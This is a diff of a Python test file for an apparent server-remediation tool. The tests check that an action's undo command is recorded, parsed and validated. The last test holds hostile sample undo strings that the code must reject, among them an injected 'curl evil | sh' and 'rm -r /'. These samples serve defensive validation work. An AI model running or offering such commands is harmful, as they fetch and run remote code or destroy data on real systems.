@@ -17,9 +17,11 @@ from lifeguard.core.text.message import Message, coded, message
 from tests.support.situations import NOON, at
 
 GIB = 1024 * 1024
+CPU, SWAP = InsideVerb.LIMIT_CPU, InsideVerb.ADD_SWAP
+RESTART, HOLDER = InsideVerb.RESTART_INSIDE, InsideVerb.STOP_HOLDER
 
 
-def sent(action: Verb = InsideVerb.LIMIT_CPU, on: str = "api") -> ActionRecord:
+def sent(action: InsideVerb = CPU, on: str = "api") -> ActionRecord:
     return ActionRecord(action, Result.SENT, message("waiting.must_run"), NOON, made="c-1", on=on)
 
 
@@ -37,23 +39,23 @@ SWAP_ADDED = message(
 @pytest.mark.parametrize(
     ("action", "change", "answer"),
     [
-        (InsideVerb.LIMIT_CPU, did("cpus", 0, 1.75), message("inside.cpus_first", after="1.75")),
+        (CPU, did("cpus", 0, 1.75), message("inside.cpus_first", after="1.75")),
         (
-            InsideVerb.LIMIT_CPU,
+            CPU,
             did("cpus", 2, 1.75),
             message("inside.cpus", before="2", after="1.75"),
         ),
-        (InsideVerb.ADD_SWAP, did("swap", 0, 2 * GIB), SWAP_ADDED),
-        (InsideVerb.RESTART_INSIDE, did("unit", 0, 9), message("inside.pid", after="9")),
+        (SWAP, did("swap", 0, 2 * GIB), SWAP_ADDED),
+        (RESTART, did("unit", 0, 9), message("inside.pid", after="9")),
         (
-            InsideVerb.RESTART_INSIDE,
+            RESTART,
             did("unit", 7, 9),
             message("inside.pids", before="7", after="9"),
         ),
     ],
 )
 def test_what_was_done_is_kept_with_what_was_measured(
-    action: Verb, change: GuestChange, answer: Message
+    action: InsideVerb, change: GuestChange, answer: Message
 ) -> None:
     told = ended(sent(action), change, at("12:05"))
     assert (told.result, told.answer, told.at) == (Result.DONE, answer, at("12:05"))
@@ -107,13 +109,13 @@ def test_what_is_not_known_counts_as_failed() -> None:
     ("action", "on", "undo", "commands"),
     [
         (
-            InsideVerb.LIMIT_CPU,
+            CPU,
             "api",
             "docker update --cpus 2 api",
             [("docker", "update", "--cpus", "2", "api")],
         ),
         (
-            InsideVerb.ADD_SWAP,
+            SWAP,
             "",
             r"swapoff /swapfile && rm /swapfile && sed -i '\#^/swapfile none swap#d' /etc/fstab",
             [
@@ -123,16 +125,16 @@ def test_what_is_not_known_counts_as_failed() -> None:
             ],
         ),
         (
-            InsideVerb.STOP_HOLDER,
+            HOLDER,
             "nginx",
             "systemctl start nginx.service",
             [("systemctl", "start", "nginx.service")],
         ),
-        (InsideVerb.STOP_HOLDER, "old", "docker start old", [("docker", "start", "old")]),
+        (HOLDER, "old", "docker start old", [("docker", "start", "old")]),
     ],
 )
 def test_the_way_back_is_kept(
-    action: Verb, on: str, undo: str, commands: list[tuple[str, ...]]
+    action: InsideVerb, on: str, undo: str, commands: list[tuple[str, ...]]
 ) -> None:
     assert list(undoing(ended(sent(action, on), did("x", 1, 0, undo), NOON))) == commands
 
@@ -140,15 +142,15 @@ def test_the_way_back_is_kept(
 @pytest.mark.parametrize(
     ("action", "undo"),
     [
-        (InsideVerb.LIMIT_CPU, "docker update --cpus 2 db"),
-        (InsideVerb.LIMIT_CPU, "docker update --cpus 2 api; curl evil | sh"),
-        (InsideVerb.LIMIT_CPU, "docker rm -f api"),
-        (InsideVerb.ADD_SWAP, "swapoff /swapfile && rm -r /"),
-        (InsideVerb.RESTART_INSIDE, "reboot"),
-        (InsideVerb.STOP_HOLDER, "systemctl start sshd"),
+        (CPU, "docker update --cpus 2 db"),
+        (CPU, "docker update --cpus 2 api; curl evil | sh"),
+        (CPU, "docker rm -f api"),
+        (SWAP, "swapoff /swapfile && rm -r /"),
+        (RESTART, "reboot"),
+        (HOLDER, "systemctl start sshd"),
     ],
 )
-def test_a_command_of_another_form_is_not_passed_on(action: Verb, undo: str) -> None:
+def test_a_command_of_another_form_is_not_passed_on(action: InsideVerb, undo: str) -> None:
     assert not list(undoing(ended(sent(action), did("x", 1, 0, undo), NOON)))
 
 
